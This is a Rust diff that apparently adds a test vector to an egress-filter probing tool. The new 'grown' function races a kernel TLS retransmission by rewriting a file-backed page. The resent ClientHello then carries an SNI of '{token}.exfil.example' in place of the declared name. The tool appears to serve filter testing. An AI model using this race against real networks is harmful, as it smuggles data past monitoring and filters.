@@ -19,7 +19,10 @@ use super::{
     Attempt, Job, Stop, Vector, sys,
     tls::{DECLARED, ask_for_retry_on, hello, linger, sys_open, vector},
 };
-use crate::hello::build::{Hello, PADDING};
+use crate::{
+    hello::build::{Hello, PADDING, SERVER_NAME, server_name},
+    zone,
+};
 
 /// Length of both hellos.
 const LENGTH: usize = 600;
@@ -27,6 +30,8 @@ const LENGTH: usize = 600;
 const PAGE: usize = 4096;
 /// Each try is a race. Without a confinement one in two wins.
 const TRIES: usize = 25;
+/// An extension that nobody knows.
+const UNKNOWN: u16 = 0x7a7a;
 /// What a wrong guess costs.
 const SETTLE: Duration = Duration::from_millis(20);
 
@@ -151,6 +156,11 @@ pub(super) const VECTORS: &[Vector] = &[
         collapsed,
     ),
     vector(
+        "page-grown",
+        "half of it written, half from a page, to a server with a small window",
+        grown,
+    ),
+    vector(
         "page-second-hello",
         "the hello that is asked for again, from a page",
         |job| {
@@ -208,6 +218,31 @@ fn collapsed(job: &Job) -> Attempt {
         // Half of the tries win where nothing is held back.
         let end = Instant::now() + Duration::from_millis(600);
         while turn % 2 == 1 && Instant::now() < end && sent_again(&socket)? == 0 {}
+        page.memory.write(0, &stranger);
+        thread::sleep(SETTLE);
+    }
+    Ok(())
+}
+
+/// For a small window the kernel makes two packets of this, and puts them together when it sends
+/// the first one again. Kernels without the mending of CVE-2026-43503 forget then, too.
+fn grown(job: &Job) -> Attempt {
+    let half = usize::from(zone::SMALL_WINDOW) / 2;
+    // The written halves are the same: the name is in the other one, which is as long in both.
+    let with_name_last = |name: &str| {
+        let hello = Hello::nameless().padded(half + 40);
+        let hello = hello.with(SERVER_NAME, server_name(&[(0, name.as_bytes())]));
+        let missing = (half + 300).saturating_sub(hello.record().len() + 4);
+        hello.with(UNKNOWN, vec![0; missing]).record()
+    };
+    let declared = with_name_last("small-window.example");
+    let stranger = with_name_last(&format!("{}.exfil.example", job.token));
+    for _ in 0..TRIES {
+        let page = Page::with(&declared)?;
+        let socket = sys::socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
+        sys::connect(&socket, &sys::address((zone::TIGHT, 443)))?;
+        sys::send(&socket, &declared[..half], 0, &[])?;
+        send_from(&page.file, &socket, half as i64, declared.len() - half)?;
         page.memory.write(0, &stranger);
         thread::sleep(SETTLE);
     }
